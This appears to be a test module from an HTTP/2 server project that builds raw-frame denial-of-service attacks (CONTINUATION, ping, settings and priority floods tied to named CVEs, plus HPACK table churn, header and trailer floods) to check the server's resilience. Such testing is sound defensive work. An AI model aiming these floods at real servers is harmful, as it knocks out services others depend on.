# SPDX-License-Identifier: GPL-3.0-or-later
"""Attacks by frames of HTTP/2."""

import asyncio
import struct
from collections.abc import AsyncIterator

from tests import raw_http2 as wire
from tests.attacks.peer import CONTINUATION, PRIORITY, QUESTION, STREAM, UNARY, WINDOW_UPDATE, Attack, Peer


async def header_flood(peer: Peer) -> AsyncIterator[bytes]:
    """Requests with as many headers as are accepted, to a method that does not exist."""
    much = [(b"x-%d" % number, b"v" * 100) for number in range(100)]
    while True:
        yield b"".join(wire.request(peer.stream(), b"/no/Method", *much, body=b"\0" * 5) for _ in range(20))


async def continuations(peer: Peer) -> AsyncIterator[bytes]:
    """One header block that never ends (CVE-2024-27316)."""
    yield wire.frame(wire.HEADERS, 0, peer.stream(), wire.block((b":method", b"POST")))
    while True:
        yield b"".join(wire.frame(CONTINUATION, 0, 1, wire.block((b"x", b"y"))) for _ in range(50))


async def empty_frames(peer: Peer) -> AsyncIterator[bytes]:
    """Frames of no bytes (CVE-2019-9518)."""
    stream = peer.stream()
    yield wire.request(stream, STREAM, end=False)
    while True:
        yield wire.frame(wire.DATA, 0, stream) * 2_000


async def pings(peer: Peer) -> AsyncIterator[bytes]:
    """Pings as quickly as they go (CVE-2019-9512)."""
    del peer
    while True:
        yield wire.frame(wire.PING, payload=bytes(8)) * 500


async def settings(peer: Peer) -> AsyncIterator[bytes]:
    """Settings as quickly as they go (CVE-2019-9515)."""
    del peer
    while True:
        yield wire.frame(wire.SETTINGS, payload=struct.pack(">HI", 4, 65_535)) * 500


async def many_continuations(peer: Peer) -> AsyncIterator[bytes]:
    """Calls whose headers come in nine frames."""
    path = wire.request(1, UNARY, end=False)[9:]
    step = len(path) // 8
    parts = [path[start : start + step] for start in range(0, len(path), step)]
    while True:
        calls = []
        for _ in range(20):
            stream = peer.stream()
            calls.append(wire.frame(wire.HEADERS, wire.END_STREAM, stream, parts[0]))
            calls += [wire.frame(CONTINUATION, 0, stream, part) for part in parts[1:-1]]
            calls.append(wire.frame(CONTINUATION, wire.END_HEADERS, stream, parts[-1]))
        yield b"".join(calls)


async def trailer_flood(peer: Peer) -> AsyncIterator[bytes]:
    """Requests that end with as many trailers as are accepted."""
    much = wire.block(*((b"x-%d" % number, b"v" * 100) for number in range(90)))
    while True:
        yield b"".join(
            wire.request(stream, UNARY, end=False)
            + wire.frame(wire.HEADERS, wire.END_HEADERS | wire.END_STREAM, stream, much)
            for stream in [peer.stream() for _ in range(20)]
        )


async def priorities(peer: Peer) -> AsyncIterator[bytes]:
    """Priorities of streams that do not exist (CVE-2019-9513)."""
    del peer
    stream = 1
    while True:
        frames = []
        for _ in range(500):
            stream = stream + 2 if stream < 2**30 else 1
            frames.append(wire.frame(PRIORITY, 0, stream, struct.pack(">IB", 0, stream % 256)))
        yield b"".join(frames)


async def window_updates(peer: Peer) -> AsyncIterator[bytes]:
    """The connection's window grown byte by byte."""
    del peer
    while True:
        yield wire.frame(WINDOW_UPDATE, payload=struct.pack(">I", 1)) * 1_000


async def table_sizes(peer: Peer) -> AsyncIterator[bytes]:
    """The table of headers resized with each call, and its fields indexed anew."""
    small, large = (wire.frame(wire.SETTINGS, payload=struct.pack(">HI", 1, size)) for size in (0, 65_536))
    # Literals with indexing (RFC 7541, 6.2.1), each larger than half of the table.
    churn = b"".join(b"\x40\x03x-%d" % number + wire.text(b"v" * 2_100) for number in range(6))
    # The size of the table there and back (RFC 7541, 6.3).
    resize = b"\x20\x3f\xe1\x1f"
    while True:
        calls = []
        for _ in range(10):
            stream = peer.stream()
            head = wire.request(stream, UNARY, end=False)[9:]
            calls += [small, large, wire.frame(wire.HEADERS, wire.END_HEADERS, stream, resize + head + churn)]
            calls.append(wire.frame(wire.DATA, wire.END_STREAM, stream, QUESTION))
        yield b"".join(calls)
        await asyncio.sleep(0.02)


async def padded_bytes(peer: Peer) -> AsyncIterator[bytes]:
    """A message byte by byte, each in 255 bytes of padding."""
    padded = wire.frame(wire.DATA, 8, 1, b"\xff" + b"\x00" + bytes(255))
    yield wire.request(peer.stream(), STREAM, end=False)
    while True:
        yield padded * 200


async def single_bytes(peer: Peer) -> AsyncIterator[bytes]:
    """Messages byte by byte."""
    ids = [peer.stream() for _ in range(20)]
    yield b"".join(wire.request(stream, STREAM, end=False) for stream in ids)
    while True:
        for stream in ids:
            yield wire.frame(wire.DATA, 0, stream, b"\x00") * 200


async def unknown_frames(peer: Peer) -> AsyncIterator[bytes]:
    """Frames of kinds that do not exist."""
    del peer
    while True:
        yield wire.frame(0xEE, payload=bytes(100)) * 500


ATTACKS = {
    "header_flood": Attack(header_flood),
    "continuations": Attack(continuations, breaks_rules=True),
    "many_continuations": Attack(many_continuations),
    "trailer_flood": Attack(trailer_flood),
    "empty_frames": Attack(empty_frames, breaks_rules=True),
    "pings": Attack(pings, reads=False, breaks_rules=True),
    "settings": Attack(settings, reads=False),
    "priorities": Attack(priorities),
    "window_updates": Attack(window_updates),
    "table_sizes": Attack(table_sizes),
    "padded_bytes": Attack(padded_bytes),
    "single_bytes": Attack(single_bytes),
    "unknown_frames": Attack(unknown_frames),
}
